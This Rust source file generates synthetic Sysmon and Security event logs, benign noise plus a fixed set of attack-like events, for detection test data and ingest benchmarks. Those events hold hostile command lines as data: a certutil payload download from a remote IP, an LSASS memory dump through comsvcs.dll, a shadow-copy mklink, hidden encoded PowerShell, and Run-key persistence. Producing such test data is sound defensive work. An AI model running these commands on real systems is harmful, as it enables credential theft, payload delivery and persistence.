//! Synthetic XmlWinEventLog data in attack_data's format (one `<Event>` per line, CRLF, the
//! single-quoted rendering Windows gives Splunk): benign Sysmon and Security noise, plus a few
//! attack-like events — among them exactly one `cmd.exe` `mklink` to a volume shadow copy
//! (the seed detection's target). Deterministic for a given seed. Used for the bundled sample
//! dataset (`datasets/sample/`) and for ingest benchmarks of any size.

use std::io::{self, Write};

/// A small deterministic PRNG (xorshift64*), so generated files are reproducible.
pub struct Rng(u64);

impl Rng {
    /// Seeds the generator (0 is replaced by a fixed constant).
    pub fn new(seed: u64) -> Rng {
        Rng(if seed == 0 {
            0x9E37_79B9_7F4A_7C15
        } else {
            seed
        })
    }
    /// Next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    /// A number in `0..n` (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
}

fn esc(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

fn guid(r: &mut Rng) -> String {
    let a = r.next_u64();
    let b = r.next_u64();
    format!(
        "{{8a3c5e1f-{:04x}-{:04x}-{:04x}-{:012x}}}",
        a & 0xffff,
        (a >> 16) & 0xffff,
        (a >> 32) & 0xffff,
        b & 0xffff_ffff_ffff
    )
}

fn hexn(r: &mut Rng, n: usize) -> String {
    let mut s = String::with_capacity(n);
    while s.len() < n {
        s.push_str(&format!("{:016X}", r.next_u64()));
    }
    s.truncate(n);
    s
}

fn utc(t_ms: u64) -> (String, String) {
    let secs = (t_ms / 1000) as i64;
    let ms = t_ms % 1000;
    let days = secs.div_euclid(86400);
    let sod = secs.rem_euclid(86400);
    // civil from days (Howard Hinnant)
    let z = days + 719468;
    let era = z.div_euclid(146097);
    let doe = z - era * 146097;
    let yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + if m <= 2 { 1 } else { 0 };
    let (h, mi, s) = (sod / 3600, (sod % 3600) / 60, sod % 60);
    (
        format!(
            "{y:04}-{m:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{ms:03}{:04}00Z",
            (t_ms * 7) % 10000
        ),
        format!("{y:04}-{m:02}-{d:02} {h:02}:{mi:02}:{s:02}.{ms:03}"),
    )
}

/// Writes one event in the Windows XML rendering.
#[allow(clippy::too_many_arguments)]
fn event(
    out: &mut String,
    provider: (&str, &str),
    event_id: u32,
    task: u32,
    time: &str,
    record: u64,
    channel: &str,
    computer: &str,
    data: &[(&str, String)],
) {
    let (name, guid) = provider;
    let (version, keywords, user) = if channel == "Security" {
        (2, "0x8020000000000000", String::new())
    } else {
        (
            5,
            "0x8000000000000000",
            "<Security UserID='S-1-5-18'/>".to_string(),
        )
    };
    out.push_str(&format!(
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{name}' Guid='{guid}'/><EventID>{event_id}</EventID><Version>{version}</Version><Level>{}</Level><Task>{task}</Task><Opcode>0</Opcode><Keywords>{keywords}</Keywords><TimeCreated SystemTime='{time}'/><EventRecordID>{record}</EventRecordID><Correlation/><Execution ProcessID='{}' ThreadID='{}'/><Channel>{channel}</Channel><Computer>{computer}</Computer>{user}</System><EventData>",
        if channel == "Security" { 0 } else { 4 },
        if channel == "Security" { 4 } else { 2764 },
        if channel == "Security" { 7244 } else { 3480 },
    ));
    for (k, v) in data {
        out.push_str(&format!("<Data Name='{k}'>{}</Data>", esc(v)));
    }
    out.push_str("</EventData></Event>\r\n");
}

const SYSMON: (&str, &str) = (
    "Microsoft-Windows-Sysmon",
    "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
);
const SECURITY: (&str, &str) = (
    "Microsoft-Windows-Security-Auditing",
    "{54849625-5478-4994-a5ba-3e3b0328c30d}",
);
const SYSMON_CH: &str = "Microsoft-Windows-Sysmon/Operational";

const HOSTS: &[&str] = &[
    "wks-finance-07.corp.example",
    "wks-eng-12.corp.example",
    "srv-file-01.corp.example",
];
const USERS: &[&str] = &[
    "CORP\\alice",
    "CORP\\bob",
    "CORP\\carol",
    "NT AUTHORITY\\SYSTEM",
];

/// (image, command line, original file name, description)
const BENIGN: &[(&str, &str, &str, &str)] = &[
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "svchost.exe", "Host Process for Windows Services"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --enable-auto-reload", "chrome.exe", "Google Chrome"),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "CONHOST.EXE", "Console Window Host"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", "taskhostw.exe", "Host Process for Windows Tasks"),
    ("C:\\Windows\\System32\\SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646", "searchprotocolhost.exe", "Microsoft Windows Search Protocol Host"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle", "Outlook.exe", "Microsoft Outlook"),
    ("C:\\Windows\\System32\\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", "backgroundTaskHost.exe", "Background Task Host"),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -Command \"Get-Service | Where-Object {$_.Status -eq 'Running'} > C:\\ProgramData\\svc.txt\"", "PowerShell.EXE", "Windows PowerShell"),
];

struct Gen {
    r: Rng,
    t_ms: u64,
    record: u64,
}

impl Gen {
    fn tick(&mut self) -> (String, String) {
        self.t_ms += 50 + self.r.below(2000);
        self.record += 1;
        utc(self.t_ms)
    }

    #[allow(clippy::too_many_arguments)]
    fn process(
        &mut self,
        out: &mut String,
        host: &str,
        user: &str,
        image: &str,
        cmd: &str,
        ofn: &str,
        desc: &str,
        parent: (&str, &str),
    ) {
        let (sys, utc) = self.tick();
        let r = &mut self.r;
        let data = vec![
            ("RuleName", "-".to_string()),
            ("UtcTime", utc),
            ("ProcessGuid", guid(r)),
            ("ProcessId", (1000 + r.below(9000)).to_string()),
            ("Image", image.to_string()),
            (
                "FileVersion",
                "10.0.19041.1 (WinBuild.160101.0800)".to_string(),
            ),
            ("Description", desc.to_string()),
            (
                "Product",
                "Microsoft® Windows® Operating System".to_string(),
            ),
            ("Company", "Microsoft Corporation".to_string()),
            ("OriginalFileName", ofn.to_string()),
            ("CommandLine", cmd.to_string()),
            ("CurrentDirectory", "C:\\Windows\\system32\\".to_string()),
            ("User", user.to_string()),
            ("LogonGuid", guid(r)),
            ("LogonId", format!("0x{:x}", 0x3e7 + r.below(0xfffff))),
            ("TerminalSessionId", "1".to_string()),
            (
                "IntegrityLevel",
                if user.contains("SYSTEM") {
                    "System"
                } else {
                    "Medium"
                }
                .to_string(),
            ),
            (
                "Hashes",
                format!(
                    "SHA1={},MD5={},SHA256={},IMPHASH={}",
                    hexn(r, 40),
                    hexn(r, 32),
                    hexn(r, 64),
                    hexn(r, 32)
                ),
            ),
            ("ParentProcessGuid", guid(r)),
            ("ParentProcessId", (500 + r.below(5000)).to_string()),
            ("ParentImage", parent.0.to_string()),
            ("ParentCommandLine", parent.1.to_string()),
            ("ParentUser", user.to_string()),
        ];
        let rec = self.record;
        event(out, SYSMON, 1, 1, &sys, rec, SYSMON_CH, host, &data);
    }

    fn noise(&mut self, out: &mut String) {
        let host = self.r.pick(HOSTS);
        let user = self.r.pick(USERS);
        match self.r.below(10) {
            0..=4 => {
                let (img, cmd, ofn, desc) = BENIGN[self.r.below(BENIGN.len() as u64) as usize];
                self.process(
                    out,
                    host,
                    user,
                    img,
                    cmd,
                    ofn,
                    desc,
                    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
                );
            }
            5 => {
                let (sys, utc) = self.tick();
                let r = &mut self.r;
                let data = vec![
                    ("RuleName", "-".to_string()),
                    ("UtcTime", utc.clone()),
                    ("ProcessGuid", guid(r)),
                    ("ProcessId", (1000 + r.below(9000)).to_string()),
                    ("Image", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_string()),
                    ("TargetFilename", format!("C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_{:06x}", r.below(0xffffff))),
                    ("CreationUtcTime", utc),
                    ("User", user.to_string()),
                ];
                let rec = self.record;
                event(out, SYSMON, 11, 11, &sys, rec, SYSMON_CH, host, &data);
            }
            6 => {
                let (sys, utc) = self.tick();
                let r = &mut self.r;
                let data = vec![
                    ("RuleName", "-".to_string()),
                    ("UtcTime", utc),
                    ("ProcessGuid", guid(r)),
                    ("ProcessId", (1000 + r.below(9000)).to_string()),
                    (
                        "QueryName",
                        r.pick(&[
                            "www.example.com",
                            "login.microsoftonline.com",
                            "update.googleapis.com",
                            "outlook.office365.com",
                        ])
                        .to_string(),
                    ),
                    ("QueryStatus", "0".to_string()),
                    (
                        "QueryResults",
                        format!("::ffff:93.184.{}.{};", r.below(255), r.below(255)),
                    ),
                    (
                        "Image",
                        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_string(),
                    ),
                    ("User", user.to_string()),
                ];
                let rec = self.record;
                event(out, SYSMON, 22, 22, &sys, rec, SYSMON_CH, host, &data);
            }
            7 => {
                let (sys, utc) = self.tick();
                let r = &mut self.r;
                let data = vec![
                    ("RuleName", "-".to_string()),
                    ("UtcTime", utc),
                    ("ProcessGuid", guid(r)),
                    ("ProcessId", (1000 + r.below(9000)).to_string()),
                    (
                        "Image",
                        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_string(),
                    ),
                    ("User", user.to_string()),
                    ("Protocol", "tcp".to_string()),
                    ("Initiated", "true".to_string()),
                    ("SourceIsIpv6", "false".to_string()),
                    (
                        "SourceIp",
                        format!("10.1.{}.{}", r.below(255), r.below(255)),
                    ),
                    ("SourceHostname", host.to_string()),
                    ("SourcePort", (49152 + r.below(16000)).to_string()),
                    ("SourcePortName", "-".to_string()),
                    ("DestinationIsIpv6", "false".to_string()),
                    (
                        "DestinationIp",
                        format!("142.250.{}.{}", r.below(255), r.below(255)),
                    ),
                    ("DestinationHostname", "-".to_string()),
                    ("DestinationPort", "443".to_string()),
                    ("DestinationPortName", "https".to_string()),
                ];
                let rec = self.record;
                event(out, SYSMON, 3, 3, &sys, rec, SYSMON_CH, host, &data);
            }
            _ => {
                let (sys, _) = self.tick();
                let r = &mut self.r;
                let data = vec![
                    ("SubjectUserSid", "S-1-5-18".to_string()),
                    (
                        "SubjectUserName",
                        format!("{}$", host.split('.').next().unwrap_or(host).to_uppercase()),
                    ),
                    ("SubjectDomainName", "CORP".to_string()),
                    ("SubjectLogonId", "0x3e7".to_string()),
                    (
                        "TargetUserSid",
                        format!(
                            "S-1-5-21-1004336348-1177238915-682003330-{}",
                            1100 + r.below(50)
                        ),
                    ),
                    (
                        "TargetUserName",
                        user.rsplit('\\').next().unwrap_or(user).to_string(),
                    ),
                    ("TargetDomainName", "CORP".to_string()),
                    ("TargetLogonId", format!("0x{:x}", r.below(0xffffff))),
                    ("LogonType", "3".to_string()),
                    ("LogonProcessName", "Kerberos".to_string()),
                    ("AuthenticationPackageName", "Kerberos".to_string()),
                    ("WorkstationName", "-".to_string()),
                    (
                        "IpAddress",
                        format!("10.1.{}.{}", r.below(255), r.below(255)),
                    ),
                    ("IpPort", "0".to_string()),
                ];
                let rec = self.record;
                event(
                    out, SECURITY, 4624, 12544, &sys, rec, "Security", host, &data,
                );
            }
        }
    }

    /// The attack-like events (written once).
    fn attacks(&mut self, out: &mut String) {
        let host = "wks-finance-07.corp.example";
        let user = "CORP\\alice";
        let ps = (
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "\"powershell.exe\" -NoProfile",
        );
        self.process(
            out,
            host,
            user,
            "C:\\Windows\\System32\\vssadmin.exe",
            "vssadmin.exe create shadow /for=C:",
            "VSSADMIN.EXE",
            "Command Line Interface for Microsoft® Volume Shadow Copy Service",
            ps,
        );
        self.process(
            out,
            host,
            user,
            "C:\\Windows\\System32\\cmd.exe",
            "\"C:\\Windows\\system32\\cmd.exe\" /c mklink /d C:\\Users\\Public\\shadow \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\",
            "Cmd.Exe",
            "Windows Command Processor",
            ps,
        );
        self.process(out, host, user, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "PowerShell.EXE", "Windows PowerShell", ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c start.bat"));
        self.process(out, host, user, "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/payload.txt C:\\Users\\Public\\payload.exe", "CertUtil.exe", "CertUtil.exe", ("C:\\Windows\\System32\\cmd.exe", "cmd.exe"));
        self.process(out, host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full", "RUNDLL32.EXE", "Windows host process (Rundll32)", ps);
        self.process(out, host, user, "C:\\Windows\\System32\\reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ /d C:\\Users\\Public\\updater.exe /f", "reg.exe", "Registry Console Tool", ("C:\\Windows\\System32\\cmd.exe", "cmd.exe"));
        // A command line holding a newline: the event spans two lines.
        self.process(
            out,
            host,
            user,
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe -Command \"$s = 'a';\r\nWrite-Output $s & exit\"",
            "PowerShell.EXE",
            "Windows PowerShell",
            ps,
        );
        let (sys, utc) = self.tick();
        let data = vec![
            ("RuleName", "T1060,RunKey".to_string()),
            ("EventType", "SetValue".to_string()),
            ("UtcTime", utc),
            ("ProcessGuid", guid(&mut self.r)),
            ("ProcessId", "6012".to_string()),
            ("Image", "C:\\Windows\\System32\\reg.exe".to_string()),
            ("TargetObject", "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater".to_string()),
            ("Details", "C:\\Users\\Public\\updater.exe".to_string()),
            ("User", user.to_string()),
        ];
        let rec = self.record;
        event(out, SYSMON, 13, 14, &sys, rec, SYSMON_CH, host, &data);
        let (sys, _) = self.tick();
        let data = vec![
            (
                "SubjectUserSid",
                "S-1-5-21-1004336348-1177238915-682003330-1104".to_string(),
            ),
            ("SubjectUserName", "alice".to_string()),
            ("SubjectDomainName", "CORP".to_string()),
            ("SubjectLogonId", "0x5bc10d".to_string()),
            ("NewProcessId", "0x1a2c".to_string()),
            (
                "NewProcessName",
                "C:\\Windows\\System32\\whoami.exe".to_string(),
            ),
            ("TokenElevationType", "%%1936".to_string()),
            ("ProcessId", "0x1f40".to_string()),
            ("CommandLine", "whoami /all".to_string()),
            ("TargetUserSid", "S-1-0-0".to_string()),
            ("TargetUserName", "-".to_string()),
            ("TargetDomainName", "-".to_string()),
            ("TargetLogonId", "0x0".to_string()),
            (
                "ParentProcessName",
                "C:\\Windows\\System32\\cmd.exe".to_string(),
            ),
            ("MandatoryLabel", "S-1-16-12288".to_string()),
        ];
        let rec = self.record;
        event(
            out, SECURITY, 4688, 13312, &sys, rec, "Security", host, &data,
        );
    }
}

/// Writes about `bytes` bytes of events (at least the attack events) to `w`; returns the number
/// of events written. The attack-like events come once, after the first tenth of the noise.
pub fn generate(w: &mut dyn Write, bytes: u64, seed: u64) -> io::Result<u64> {
    let mut g = Gen {
        r: Rng::new(seed),
        t_ms: 1_736_935_200_000, // 2025-01-15T10:00:00Z
        record: 100_000,
    };
    let mut written = 0u64;
    let mut events = 0u64;
    let mut attacks_done = false;
    let mut buf = String::with_capacity(1 << 20);
    loop {
        let cur = written + buf.len() as u64;
        if !attacks_done && (cur >= bytes / 10 || cur + 40_000 >= bytes) {
            g.attacks(&mut buf);
            events += 9;
            attacks_done = true;
        } else {
            g.noise(&mut buf);
            events += 1;
        }
        if buf.len() >= 1 << 19 {
            w.write_all(buf.as_bytes())?;
            written += buf.len() as u64;
            buf.clear();
        }
        if attacks_done && written + buf.len() as u64 >= bytes {
            break;
        }
    }
    w.write_all(buf.as_bytes())?;
    Ok(events)
}

/// Parses a size such as `1GB`, `500MB`, `64KiB` or `1000` (bytes; K/M/G are powers of 1024).
pub fn parse_size(s: &str) -> Option<u64> {
    let s = s.trim();
    let split = s
        .find(|c: char| !c.is_ascii_digit() && c != '.')
        .unwrap_or(s.len());
    let (num, unit) = s.split_at(split);
    let n: f64 = num.parse().ok()?;
    let mult = match unit.trim().to_ascii_lowercase().as_str() {
        "" | "b" => 1u64,
        "k" | "kb" | "kib" => 1 << 10,
        "m" | "mb" | "mib" => 1 << 20,
        "g" | "gb" | "gib" => 1 << 30,
        _ => return None,
    };
    Some((n * mult as f64) as u64)
}
